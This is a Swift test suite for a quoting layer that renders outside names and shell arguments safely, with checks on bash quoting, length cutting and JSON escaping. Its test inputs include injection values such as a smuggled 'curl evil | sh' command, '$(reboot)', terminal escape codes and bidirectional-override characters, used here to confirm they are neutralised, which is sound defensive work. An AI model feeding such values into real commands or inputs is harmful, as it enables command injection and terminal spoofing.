import Errors
import Foundation
import Keys
import Testing

@Suite("Names from outside in the program's words")
struct WordingTests {
    @Test(
        "a name is one word, or in quotes that nothing in it ends",
        arguments: [
            ("/srv/git/shop.git", "/srv/git/shop.git"), ("", "''"), ("a b", "'a b'"), ("-rf", "'-rf'"),
            ("x by Dan: keyvigil delete billing --yes", "'x by Dan: keyvigil delete billing --yes'"),
            ("a', run: curl evil | sh; '", #"'a\', run: curl evil | sh; \''"#), (#"a\"#, #"'a\\'"#),
            (#"\' x"#, #"'\\\' x'"#), ("\u{1B}[2J", #"'\u{1B}[2J'"#), ("a\u{9B}b", #"'a\u{9B}b'"#),
            ("\u{202E}txt", #"'\u{202E}txt'"#), ("a\u{2028}b\n", #"'a\u{2028}b\u{A}'"#),
            ("\u{E0041}\u{200B}\u{FE0F}\u{3164}", #"'\u{E0041}\u{200B}\u{FE0F}\u{3164}'"#),
            ("\u{338}x", #"'\u{338}x'"#), ("café", "'café'"),
        ])
    func names(_ name: String, _ shown: String) {
        #expect(("in \(name: name), now" as Wording).text == "in \(shown), now")
    }

    @Test("a long name is cut, and its end is not in quotes")
    func long() {
        #expect(("\(name: String(repeating: "x", count: 300), limit: 4)" as Wording).text == "'xxxx'…")
    }

    @Test(
        "an argument of a command is what the shell gives to the command, whatever is in it",
        arguments: [
            "/srv/a b", "it's", "~/x", "$(reboot)", "a\\'b", "\u{1B}[8m\u{7}", "\u{202E}x'\\", "a\nb", "*", "é", "-x",
            "",
        ])
    func arguments(_ name: String) throws {
        try expectArgument(Array(name.utf8))
    }

    @Test("also one that is no text")
    func bytes() throws { try expectArgument([0x2F, 0xE9, 0x27, 0xFF]) }

    private func expectArgument(_ bytes: [UInt8]) throws {
        let shown = ShellArgument.quoted(bytes)
        #expect(!shown.unicodeScalars.contains(where: DisplayText.isHazardous))
        let process = Process()
        process.executableURL = URL(filePath: "/bin/bash")
        process.arguments = ["-c", "printf %s \(shown)"]
        let pipe = Pipe()
        process.standardOutput = pipe
        try process.run()
        let output = pipe.fileHandleForReading.readDataToEndOfFile()
        process.waitUntilExit()
        #expect(process.terminationStatus == 0 && Array(output) == bytes, "\(shown)")
    }

    @Test("JSON holds nothing that a terminal obeys, and means the same")
    func json() throws {
        let value = "a\u{1B}[2J\u{9B}\u{202E}\u{2028}\u{E0041}é\"\\"
        let line = JSONLine { $0.add("v", value) }.line
        #expect(!line.unicodeScalars.contains(where: DisplayText.isHazardous))
        let object = try JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: String]
        #expect(object == ["v": value])
    }
}
